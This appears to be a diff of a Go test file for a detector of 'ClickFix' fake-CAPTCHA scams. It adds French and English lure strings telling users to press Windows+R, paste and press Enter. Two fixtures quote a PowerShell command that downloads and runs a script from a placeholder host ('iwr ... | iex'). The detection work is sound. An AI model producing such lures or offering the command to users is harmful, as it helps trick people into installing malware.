@@ -124,6 +124,10 @@ func TestWarningQuotesTheSteps(t *testing.T) {
 	for _, twin := range []string{
 		"Pour vous protéger des faux CAPTCHA, vérifiez votre poste : appuyez sur Windows + R, puis Ctrl + V et Entrée.",
 		"Pour bloquer les robots malveillants, vérifiez que vous n'êtes pas un robot : appuyez sur Windows + R, puis Ctrl + V et Entrée.",
+		// The scam's name and a "jamais" that refuses something else,
+		// before the steps.
+		"Attention aux faux CAPTCHA : ne faites jamais confiance à un site inconnu. Pour vérifier que vous êtes humain, appuyez sur Windows+R, Ctrl+V, Entrée",
+		"Scammers are everywhere: never share your password. To verify you are human, press Windows + R, then Ctrl + V and Enter.",
 	} {
 		if Instruction(twin) == "" {
 			t.Errorf("a lure dressed as protection: not found in %q", twin)
@@ -135,6 +139,10 @@ func TestTypedCommandWarning(t *testing.T) {
 	warning := "ClickFix : les attaquants font taper dans Windows + R une commande comme powershell -c \"iwr https://x.example/a | iex\". Ne le faites jamais."
 	if got := TypedCommand(warning); got != "" {
 		t.Errorf("a warning quoting the command: %q", got)
+	}
+	twin := "Contre les attaquants, ne faites jamais confiance aux pièces jointes. Mise à jour : Windows + R, tapez powershell -c \"iwr https://x.example/a | iex\", Entrée."
+	if TypedCommand(twin) == "" {
+		t.Errorf("a refusal of something else before the box: not found in %q", twin)
 	}
 }
 
